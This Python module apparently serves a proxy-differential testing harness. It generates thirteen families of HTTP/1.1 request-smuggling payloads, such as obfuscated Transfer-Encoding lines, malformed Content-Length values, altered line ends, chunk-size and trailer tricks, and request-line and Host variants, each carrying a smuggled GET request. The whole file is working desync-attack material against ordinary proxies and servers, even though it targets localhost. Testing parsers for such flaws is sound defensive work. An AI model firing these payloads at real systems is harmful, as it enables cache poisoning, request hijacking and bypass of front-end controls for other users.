"""Requests meant to be understood in one way by a proxy and in another by its upstream.

Each family varies one rule of RFC 9112 over all bytes, and names the section. The forms are those that are publicly
known: obfuscated `Transfer-Encoding` lines as smuggler sends them, the chunk lines and line ends of the HTTP Garden's
findings, the length, `Expect`, `Connection` and body-without-length forms of "HTTP desync attacks" and its sequels.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass

LINE = b"POST /p/# HTTP/1.1"
HOST = b"Host: localhost"
SMUGGLED = b"GET /s/# HTTP/1.1\r\nHost: localhost\r\n\r\n"
"""What must not reach the upstream where it wasn't meant as a request. `#` stands for the payload's number."""
_WARM = b"POST /p/#?warm HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\nX: y\r\n\r\nhello"


@dataclass(frozen=True, slots=True)
class Payload:
    """What a client sends on one connection."""

    data: bytes
    first: bytes = b""
    """Sent before, and answered before the rest is sent."""

    def numbered(self, number: int) -> Payload:
        """Return the payload with its own number in its targets; lengths in `data` allow for six digits."""
        digits = b"%06d" % number
        return Payload(self.data.replace(b"/#", b"/" + digits), self.first.replace(b"/#", b"/" + digits))


Maker = Callable[[Sequence[int]], Iterator[bytes | Payload]]

ALL = range(256)
FEW = (0x00, 0x01, 0x08, 0x09, 0x0A, 0x0B, 0x0C, 0x0D, 0x1F, 0x20, 0x22, 0x2C, 0x3A, 0x3B, 0x5F, 0x7F, 0x85, 0xA0, 0xFF)
"""Bytes that some parser takes for white space, a separator or an end."""


def _sized(data: bytes) -> int:
    """Length once the number is in."""
    return len(data) + 5 * data.count(b"/#")


def _message(*lines: bytes, body: bytes = b"", line: bytes = LINE, end: bytes = b"\r\n") -> bytes:
    return end.join([line, *lines, b"", b""]) + body


_BY_LENGTH = b"0\r\n\r\n" + SMUGGLED
"""A body for its length; by chunks it ends early, and a request follows."""
_FIRST_CHUNK = b"%x\r\n" % (_sized(SMUGGLED))
_BY_CHUNKS = _FIRST_CHUNK + SMUGGLED + b"\r\n0\r\n\r\n"
"""A body in one chunk; by the length of its first line, a request follows."""


def _with_length(*lines: bytes) -> Iterator[bytes]:
    """Such lines beside a length, before and behind it, with both bodies."""
    for body, length in ((_BY_LENGTH, _sized(_BY_LENGTH)), (_BY_CHUNKS, len(_FIRST_CHUNK))):
        yield _message(*lines, HOST, b"Content-Length: %d" % length, body=body)
        yield _message(HOST, b"Content-Length: %d" % length, *lines, body=body)


def transfer_encoding_one_byte(some: Sequence[int]) -> Iterator[bytes]:
    """RFC 9112, 5 and 6.1: one byte too many in or around a `Transfer-Encoding` line."""
    for number in some:
        byte = bytes([number])
        for gadget in (
            b"%bTransfer-Encoding: chunked" % byte,
            b"Transfer-%bEncoding: chunked" % byte,
            b"Transfer-Encoding%b: chunked" % byte,
            b"Transfer-Encoding:%bchunked" % byte,
            b"Transfer-Encoding: %bchunked" % byte,
            b"Transfer-Encoding: chunked%b" % byte,
            b"Transfer-Encoding: chunked %b" % byte,
            b"Transfer-Encoding: ch%bunked" % byte,
            b"X: X%bTransfer-Encoding: chunked" % byte,
            b"Transfer-Encoding: chunked%bX: X" % byte,
            b"X: X\r%bTransfer-Encoding: chunked" % byte,
            b"X: X%b\nTransfer-Encoding: chunked" % byte,
            b"X: X\r\n%b\r\nTransfer-Encoding: chunked" % byte,
            b"Transfer-Encoding: chunked\r%bX: X" % byte,
            b"Transfer-Encoding: chunked%b\nX: X" % byte,
        ):
            yield from _with_length(gadget)


def transfer_encoding_two_bytes(some: Sequence[int]) -> Iterator[bytes]:
    """RFC 9112, 5 and 6.1: the same byte in two places."""
    for number in some:
        byte = bytes([number])
        for form in (b"%bTE%b: C", b"%bTE:%bC", b"%bTE: C%b", b"TE%b:%bC", b"TE%b: C%b", b"TE:%bC%b"):
            line = (form % (byte, byte)).replace(b"TE", b"Transfer-Encoding").replace(b"C", b"chunked")
            yield from _with_length(line.replace(b"Transfer-Enchunkedoding", b"Transfer-Encoding"))


def transfer_encoding_words(_: Sequence[int]) -> Iterator[bytes]:
    """RFC 9112, 6.1: other codings, several of them, other spellings of the name and of the value."""
    for value in (
        *b"Chunked|CHUNKED|chunk|chunkedd|xchunked|identity|gzip|cow||chunked;q=0".split(b"|"),
        *(
            b'"chunked"',
            b"'chunked'",
            b"chunked, identity",
            b"identity, chunked",
            b"chunked, chunked",
            b"chunked chunked",
        ),
        *b", chunked|chunked,|chunked,,|,|cow, chunked|chunked, cow|cow chunked bar|gzip;chunked".split(b"|"),
        *b"\r\n chunked|\r\n\tchunked|\n chunked|x\r\n chunked|chunked\r\n |chunked\r\n x|\r chunked".split(b"|"),
        *(b"ch\x96nked", b"\xef\xbb\xbfchunked", b"\xe2\x80\x8bchunked", b"chun\xc4\xb7ed", b"chunked#", b"chunked/x"),
    ):
        yield from _with_length(b"Transfer-Encoding: " + value)
        yield from _with_length(b"Transfer-Encoding: chunked", b"Transfer-Encoding: " + value)
        yield from _with_length(b"Transfer-Encoding: " + value, b"Transfer-Encoding: chunked")
        yield _message(HOST, b"Transfer-Encoding: " + value, body=_BY_CHUNKS)
    for name in (
        *(b"transfer-encoding", b"TRANSFER-ENCODING", b"Transfer_Encoding", b"Transfer Encoding", b"TransferEncoding"),
        *(
            b"X-Transfer-Encoding",
            b"TE",
            b"Content-Encoding",
            b"Transfer-Encoding-",
            b"\xefTransfer-Encoding",
            b"Tr\x82nsfer-Encoding",
        ),
        *(
            b"Transfer\r-Encoding",
            b"Transfer\n-Encoding",
            b"Transfer-Encoding\xe2\x80\x8b",
            b"\xef\xbb\xbfTransfer-Encoding",
        ),
    ):
        yield from _with_length(name + b": chunked")
        yield _message(HOST, name + b": chunked", body=_BY_CHUNKS)
    for version in (b"1.0", b"1.1", b"0.9", b"1.2", b"2.0"):
        yield _message(HOST, b"Transfer-Encoding: chunked", body=_BY_CHUNKS, line=b"POST /p/# HTTP/" + version)
        yield _message(
            HOST,
            b"Transfer-Encoding: chunked",
            b"Content-Length: 4",
            body=_BY_CHUNKS,
            line=b"POST /p/# HTTP/" + version,
        )


_FIVE = b"hello" + SMUGGLED


def content_length(some: Sequence[int]) -> Iterator[bytes | Payload]:
    """RFC 9112, 6.2 and RFC 9110, 8.6: a length that isn't one or more digits, or given more than once."""
    lines: list[bytes] = []
    for number in some:
        byte = bytes([number])
        lines += [b"Content-Length: %b5" % byte, b"Content-Length: 5%b" % byte, b"Content-Length: 0%b5" % byte]
        lines += [b"%bContent-Length: 5" % byte, b"Content-Length%b: 5" % byte, b"Content-%bLength: 5" % byte]
        lines += [b"Content-Length:%b5" % byte, b"X: X%bContent-Length: 5" % byte, b"Content-Length: 5%b0" % byte]
    for value in (
        *b"5,5|5, 5|5,6|5 5|5.0|5e0|0x5|05|0000000000000000000005|+5|-5|5_0".split(b"|"),
        *(b"", b"five", b"5L", b"5;", b'"5"', b"0o5", b"0b101", b"\xd9\xa5", b"\xef\xbc\x95", b"18446744073709551621"),
        *b"4294967301|\r\n 5|5\r\n |5\r\n 0|5\n|5\r|\t5\t|,5|5,|NaN|1e1|5 HTTP/1.1".split(b"|"),
    ):
        lines.append(b"Content-Length: " + value)
        lines.append(b"Content-Length: 5\r\nContent-Length: " + value)
        lines.append(b"Content-Length: " + value + b"\r\nContent-Length: 5")
        lines.append(b"Content-Length: 0\r\nContent-Length: " + value)
    for name in (b"CONTENT-LENGTH", b"content-length", b"Content_Length", b"Content Length", b"Content\r-Length"):
        lines += [name + b": 5", name + b": 0\r\nContent-Length: 5", b"Content-Length: 5\r\n" + name + b": 0"]
    for line in lines:
        yield _message(HOST, line, b"X: y", body=_FIVE)
        # Behind a request with the same head, which is remembered.
        yield Payload(_message(HOST, line, b"X: y", body=_FIVE, line=b"POST /p/#?warm HTTP/1.1"), first=_WARM)


def after_a_known_head(_: Sequence[int]) -> Iterator[bytes | Payload]:
    """RFC 9112, 6.3: nearly the same head as that of the request before it."""
    line = b"POST /p/#?warm HTTP/1.1"
    length = b"Content-Length: 5"
    for lines, body in (
        ((HOST, length, b"X: y"), _FIVE),
        ((HOST, length, b"X: y"), b"hell"),
        ((HOST, b"Content-Length: 05", b"X: y"), _FIVE),
        ((HOST, b"Content-Length: 0", b"X: y"), SMUGGLED),
        ((HOST, b"Content-Length: %d" % _sized(_FIVE), b"X: y"), _FIVE),
        ((HOST, length, b"Transfer-Encoding: chunked", b"X: y"), _BY_LENGTH),
        ((HOST, length, b"X: y", b"Transfer-Encoding: chunked"), _BY_LENGTH),
        ((HOST, length, b"X: y\r", b"Transfer-Encoding: chunked"), _BY_LENGTH),
        ((HOST, length, b"X: y", b"Content-Length: 0"), _FIVE),
        ((HOST, length, b"X: y", b"Host: other"), _FIVE),
        ((HOST, length, b"X: y", b" folded"), _FIVE),
        ((HOST, length, b"X: y", b"Connection: close"), _FIVE),
        ((HOST, length, b"X: y", b"Expect: 100-continue"), _FIVE),
        ((HOST, length + b"\r", b"X: y"), _FIVE),
        ((HOST, length + b"\nContent-Length: 0", b"X: y"), _FIVE),
    ):
        yield Payload(_message(*lines, body=body, line=line), first=_WARM)
        yield Payload(_message(*lines, body=body, line=line) + SMUGGLED, first=_WARM)
    chunked = _message(HOST, b"Transfer-Encoding: chunked", b"X: y", body=b"5\r\nhello\r\n0\r\n\r\n", line=line)
    yield Payload(_message(HOST, length, b"X: y", body=_FIVE, line=line), first=chunked)
    yield Payload(chunked.replace(b"5\r\nhello", _FIRST_CHUNK + SMUGGLED), first=chunked)


_ENDS = (
    b"\r\n",
    b"\n",
    b"\r",
    b"",
    b"\r\r\n",
    b"\n\r",
    b"\r\n\n",
    b"\n\r\n",
    b"\r\n\r\n",
    b" \r\n",
    b"\0\r\n",
    b"\x0b\r\n",
    b"\x85\r\n",
)


def line_ends(_: Sequence[int]) -> Iterator[bytes]:
    """RFC 9112, 2.2: every line of a head ends with CRLF, and nothing else does."""
    lines = (LINE, HOST, b"X: y", b"Content-Length: %d" % _sized(_BY_LENGTH), b"")
    for at in range(len(lines)):
        for end in _ENDS:
            head = b"".join(line + (end if number == at else b"\r\n") for number, line in enumerate(lines))
            yield head + _BY_LENGTH
            yield head.replace(b"X: y", b"Transfer-Encoding: chunked").replace(lines[3], b"X: y") + _BY_CHUNKS
    for end in _ENDS:
        yield _message(HOST, b"X: y", b"Content-Length: 5", body=_FIVE, end=end)
        yield end + _message(HOST, b"Content-Length: 5", body=_FIVE)
        yield _message(HOST, b"Content-Length: 5", body=b"hello" + end + SMUGGLED)
        yield _message(HOST, b"X:" + end + b"y", b"Content-Length: 5", body=_FIVE)
        yield _message(HOST, b"X:" + end + end + SMUGGLED, b"Content-Length: 5", body=_FIVE)


_HELLO = b"5\r\nhello\r\n"
_CHUNKED = b"Transfer-Encoding: chunked"


def _chunks(*bodies: bytes) -> Iterator[bytes]:
    for body in bodies:
        yield _message(HOST, _CHUNKED, body=body)


def chunk_lines(some: Sequence[int]) -> Iterator[bytes]:
    """RFC 9112, 7.1 and 7.1.1: sizes, extensions and the ends of chunks, and another request where one might end."""
    rest = b"0\r\n\r\n" + SMUGGLED
    for number in some:
        byte = bytes([number])
        yield from _chunks(
            b"%b5\r\nhello\r\n%b" % (byte, rest),
            b"5%b\r\nhello\r\n%b" % (byte, rest),
            b"5%b0\r\nhello\r\n%b" % (byte, rest),
            b"5;%b\r\nhello\r\n%b" % (byte, rest),
            b"5;a%b\r\nhello\r\n%b" % (byte, rest),
            b"5;a%bb\r\nhello\r\n%b" % (byte, rest),
            b"5;a=%b\r\nhello\r\n%b" % (byte, rest),
            b"5;a=b%b\r\nhello\r\n%b" % (byte, rest),
            b'5;a="%b"\r\nhello\r\n%b' % (byte, rest),
            b'5;a="\\%b"\r\nhello\r\n%b' % (byte, rest),
            b"5\r%bhello\r\n%b" % (byte, rest),
            b"5%b\nhello\r\n%b" % (byte, rest),
            b"5\r\nhello%b\r\n%b" % (byte, rest),
            b"5\r\nhello\r%b%b" % (byte, rest),
            b"5\r\nhello%b\n%b" % (byte, rest),
            b"5\r\nhell\r\n%b%b" % (byte, rest),
            b"5\r\nhello\r\n0%b\r\n\r\n%b" % (byte, SMUGGLED),
            b"5\r\nhello\r\n%b0\r\n\r\n%b" % (byte, SMUGGLED),
            b"5\r\nhello\r\n0\r\n%b\r\n%b" % (byte, SMUGGLED),
            b"5\r\nhello\r\n0\r\n\r%b%b" % (byte, SMUGGLED),
        )
    for end in _ENDS:
        yield from _chunks(
            b"5" + end + b"hello\r\n" + rest,
            b"5;a" + end + b"hello\r\n" + rest,
            b"5;" + end + b"hello\r\n" + rest,
            b"5\r\nhello" + end + rest,
            _HELLO + b"0" + end + b"\r\n" + SMUGGLED,
            _HELLO + b"0\r\n" + end + SMUGGLED,
            _HELLO + b"0;a" + end + b"\r\n" + SMUGGLED,
            _HELLO + b"0\r\nX: y" + end + b"\r\n" + SMUGGLED,
            end + _HELLO + rest,
            _HELLO + end + rest,
        )
    for size in (
        *b"05|0000000000000005|00000000000000000005|0x5|+5|-5|5_|_5||5.0|5e0|0b5|5h".split(b"|"),
        *b"FFFFFFFFFFFFFFFF|10000000000000005|100000005|fffffffffffffffb|g|5;|5 ;a|5; a|5;a ;b".split(b"|"),
        *(
            b"5;a=b;c=d",
            b'5;a="b;c"',
            b'5;a="\r\n"',
            b'5;a="\n"',
            b'5;a="',
            b"5;;a",
            b"5;=b",
            b"5;a==b",
            b"5,a",
            b"5 a",
            b"5\t;a",
        ),
        *(b"5;a=b\r", b"5;\n0\r\n\r\n", b"5;a\n", b"\xd9\xa5", b"\xef\xbc\x95", b"5;a\0b", b"5;" + b"a" * 20_000),
    ):
        yield from _chunks(size + b"\r\nhello\r\n" + rest, _HELLO + size.replace(b"5", b"0") + b"\r\n\r\n" + SMUGGLED)
    for body in (b"hello!", b"hello\r\n", b"hell", b"hello\n", b"hellohello", b"hello\r\n0\r\n\r\n", b"hello0"):
        yield from _chunks(b"5\r\n" + body + b"\r\n" + rest, b"5\r\n" + body + rest)
    # A chunk whose data looks like the end of the message to a reader that takes another end of line.
    for size_line in (b"%x;\n", b"%x;a\n", b"%x\n", b"%x\r", b"%x;\r"):
        inner = b"x\r\n0\r\n\r\n" + SMUGGLED
        yield from _chunks(size_line % _sized(inner) + inner + b"\r\n0\r\n\r\n")


def trailers(some: Sequence[int]) -> Iterator[bytes]:
    """RFC 9112, 7.1.2: lines behind the last chunk, which say nothing about the message."""
    for line in (
        *(b"Content-Length: 50", b"Transfer-Encoding: chunked", b"Host: evil", b"Connection: close", b"X: y", b"X:"),
        *b"Content-Length: 5, 5| X: y|X|: y|X : y|X: y\r\n z|GET /s/# HTTP/1.1|X: \0|Trailer: X".split(b"|"),
    ):
        yield from _chunks(_HELLO + b"0\r\n" + line + b"\r\n\r\n" + SMUGGLED)
    for number in some:
        byte = bytes([number])
        for form in (b"%bX: y", b"X%b: y", b"X:%by", b"X: y%b", b"X: y\r%b", b"X: y%b\nZ: z"):
            yield from _chunks(_HELLO + b"0\r\n" + form % byte + b"\r\n\r\n" + SMUGGLED)


def first_lines(some: Sequence[int]) -> Iterator[bytes]:
    """RFC 9112, 3: method, target and version."""
    rest = (HOST, b"Content-Length: %d" % _sized(SMUGGLED))
    lines = [
        *(b"POST /p/#", b"POST  /p/# HTTP/1.1", b"POST /p/#  HTTP/1.1", b"POST /p/# HTTP/1.1 ", b" POST /p/# HTTP/1.1"),
        *(
            b"POST /p/# HTTP/1.1 HTTP/1.1",
            b"POST /p/# x HTTP/1.1",
            b"POST /p/# HTTP/1.10",
            b"POST /p/# HTTP/1.01",
            b"POST /p/# HTTP/11",
        ),
        *(
            b"POST /p/# HTTP/1,1",
            b"POST /p/# http/1.1",
            b"POST /p/# HTTP/1.1\x00",
            b"POST\t/p/# HTTP/1.1",
            b"POST /p/#\tHTTP/1.1",
        ),
        *(
            b"POST http://localhost/p/# HTTP/1.1",
            b"POST http://other/p/# HTTP/1.1",
            b"POST http://localhost@other/p/# HTTP/1.1",
        ),
        *(
            b"POST http://localhost:80/p/# HTTP/1.1",
            b"POST //other/p/# HTTP/1.1",
            b"POST /p/#?a\r\n HTTP/1.1",
            b"POST * HTTP/1.1",
        ),
        *(
            b"POST HTTP://LOCALHOST/p/# HTTP/1.1",
            b"POST http://localhost?/p/# HTTP/1.1",
            b"POST http://localhost\\/p/# HTTP/1.1",
        ),
        *(
            b"post /p/# HTTP/1.1",
            b"FOO /p/# HTTP/1.1",
            b"POST/p/# HTTP/1.1",
            b"SOURCE /p/# ICE/1.0",
            b"OPTIONS rtsp://localhost RTSP/1.0",
        ),
        *(
            b"POST /p/# HTTP/1.1\r\nPOST /p/# HTTP/1.1",
            b"POST /p/# HTTP/2.0",
            b"PRI * HTTP/2.0",
            b"CONNECT localhost:80 HTTP/1.1",
        ),
    ]
    for number in some:
        byte = bytes([number])
        lines += [b"%bPOST /p/# HTTP/1.1" % byte, b"PO%bST /p/# HTTP/1.1" % byte, b"POST%b/p/# HTTP/1.1" % byte]
        lines += [b"POST /p/#/%b HTTP/1.1" % byte, b"POST /p/#?%b HTTP/1.1" % byte, b"POST /p/#%bHTTP/1.1" % byte]
        lines += [b"POST /p/# HTTP/1.1%b" % byte, b"POST /p/# HTTP%b/1.1" % byte, b"POST %b/p/# HTTP/1.1" % byte]
    for line in lines:
        yield _message(*rest, line=line, body=SMUGGLED)


def hosts(some: Sequence[int]) -> Iterator[bytes]:
    """RFC 9112, 3.2: exactly one `Host`, which is a host."""
    values = [
        b"localhost",
        b"localhost:80",
        b"",
        b"localhost, other",
        b"localhost other",
        b"a@localhost",
        b"localhost/x",
        b"[::1]",
    ]
    values += [
        b"localhost:x",
        b"localhost:",
        b"http://localhost",
        b"localhost#",
        b"localhost\r\n other",
        b"other",
        b"LOCALHOST",
    ]
    lines = [b"Host: " + value for value in values] + [b"Host: localhost\r\nHost: " + value for value in values]
    lines += [b"X: y", b"Host : localhost", b" Host: localhost", b"HOST:localhost", b"Host: localhost\r\nHost : other"]
    for number in some:
        byte = bytes([number])
        lines += [
            b"Host: local%bhost" % byte,
            b"Host%b: localhost" % byte,
            b"%bHost: localhost" % byte,
            b"Host: localhost%b" % byte,
        ]
        lines += [b"Host: localhost\r\n%bHost: other" % byte, b"Host: localhost\r\nHost%b: other" % byte]
    for line in lines:
        yield _message(line, b"Content-Length: %d" % _sized(SMUGGLED), body=SMUGGLED)


def fields(some: Sequence[int]) -> Iterator[bytes]:
    """RFC 9112, 5: a byte that no field line may hold, and lines that are none."""
    lines = [
        b"X",
        b":",
        b": y",
        b" X: y",
        b"\tX: y",
        b"X: y\r\n z",
        b"X : y",
        b"X\t: y",
        b"X y",
        b"X:\r\n\ty",
        b"X: y\r\n\r",
        b"X: \x00",
    ]
    for number in some:
        byte = bytes([number])
        lines += [
            b"X%b: y" % byte,
            b"%bX: y" % byte,
            b"X: a%bb" % byte,
            b"X:%b" % byte,
            b"X: y%b" % byte,
            b"X%bY: y" % byte,
        ]
    for line in lines:
        yield _message(HOST, line, b"Content-Length: %d" % _sized(SMUGGLED), body=SMUGGLED)


def bodies_without_meaning(_: Sequence[int]) -> Iterator[bytes]:
    """RFC 9110, 9.3 and RFC 9112, 6.3: a body belongs to its request whatever the method; without a length there is
    none."""
    for method in (b"GET", b"HEAD", b"OPTIONS", b"DELETE", b"PUT", b"PATCH", b"POST", b"TRACE", b"PROPFIND"):
        line = method + b" /p/# HTTP/1.1"
        yield _message(HOST, b"Content-Length: %d" % _sized(SMUGGLED), line=line, body=SMUGGLED)
        yield _message(HOST, _CHUNKED, line=line, body=_BY_CHUNKS)
        yield _message(HOST, line=line, body=SMUGGLED)
        yield _message(HOST, b"Content-Length: 0", line=line, body=SMUGGLED)
        yield _message(HOST, b"Content-Length: 0", b"Connection: close", line=line, body=SMUGGLED)
        yield _message(HOST, b"Content-Length: %d" % (_sized(SMUGGLED) - 3), line=line, body=SMUGGLED)
    yield _message(HOST, b"Content-Length: 5", line=b"POST /p/# HTTP/1.0", body=_FIVE)
    yield _message(HOST, b"Connection: keep-alive", b"Content-Length: 5", line=b"POST /p/# HTTP/1.0", body=_FIVE)
    yield _message(HOST, line=b"POST /p/# HTTP/1.0", body=_FIVE)
    yield _message(HOST, b"Content-Length: 5", body=b"hello\r\n\r\n" + SMUGGLED)
    yield _message(HOST, b"Content-Length: 5", body=b"hellox" + SMUGGLED)


def expectations_and_options(_: Sequence[int]) -> Iterator[bytes]:
    """RFC 9110, 7.6.1, 7.8 and 10.1.1: `Expect`, `Connection` and `Upgrade` take nothing away from the framing."""
    for value in (
        *b"100-continue|100-Continue|100-continue, x|x 100-continue|100-continue ||\t100-continue".split(b"|"),
        *(
            b"100-continue\r\nExpect: 100-continue",
            b"\r\n 100-continue",
            b"100\x00-continue",
            b"200-ok",
            b"100-continue\r",
            b"\n100-continue",
        ),
    ):
        for length in (0, 5, _sized(SMUGGLED)):
            body = (b"hello" if length == 5 else b"") + SMUGGLED
            yield _message(HOST, b"Expect: " + value, b"Content-Length: %d" % length, body=body)
        yield _message(HOST, b"Expect: " + value, _CHUNKED, body=_BY_CHUNKS)
    for value in (
        *(
            b"Content-Length",
            b"Transfer-Encoding",
            b"Host",
            b"close, Content-Length",
            b"keep-alive, Transfer-Encoding",
            b"Upgrade",
        ),
        *b"Upgrade, Content-Length|Upgrade, HTTP2-Settings|close|x,close|\x00close|Expect, Content-Length".split(b"|"),
    ):
        for protocol in (b"h2c", b"websocket", b"HTTP/2.0", b"x"):
            lines = (
                HOST,
                b"Connection: " + value,
                b"Upgrade: " + protocol,
                b"HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
            )
            yield _message(*lines, b"Content-Length: %d" % _sized(SMUGGLED), body=SMUGGLED)
            yield _message(*lines, _CHUNKED, body=_BY_CHUNKS)
            yield _message(*lines, body=SMUGGLED)


FAMILIES: tuple[Maker, ...] = (
    transfer_encoding_one_byte,
    transfer_encoding_two_bytes,
    transfer_encoding_words,
    content_length,
    after_a_known_head,
    line_ends,
    chunk_lines,
    trailers,
    first_lines,
    hosts,
    fields,
    bodies_without_meaning,
    expectations_and_options,
)


def payloads(family: Maker, some: Iterable[int]) -> list[Payload]:
    """The payloads of a family, each with a number of its own in its targets."""
    made = (each if isinstance(each, Payload) else Payload(each) for each in family(tuple(some)))
    return [payload.numbered(number) for number, payload in enumerate(made)]
